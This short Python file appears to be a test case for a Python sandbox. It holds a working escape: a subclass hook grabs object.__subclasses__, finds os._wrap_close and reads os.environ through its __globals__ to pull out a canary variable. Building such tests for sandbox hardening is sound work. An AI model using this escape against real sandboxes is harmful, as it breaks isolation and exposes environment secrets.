"""Class: class machinery. Source: own find. Escape: __init_subclass__ reads __subclasses__."""


class Base:
    def __init_subclass__(cls, **kw):
        Base.found = getattr(cls.mro()[-1], "__subclasses__")


class A(Base):
    pass


def attack(model, tokenizer, address):
    return [c for c in Base.found() if c.__name__ == "_wrap_close"][0].__init__.__globals__[
        "environ"
    ]["CLOCHE_CANARY"]
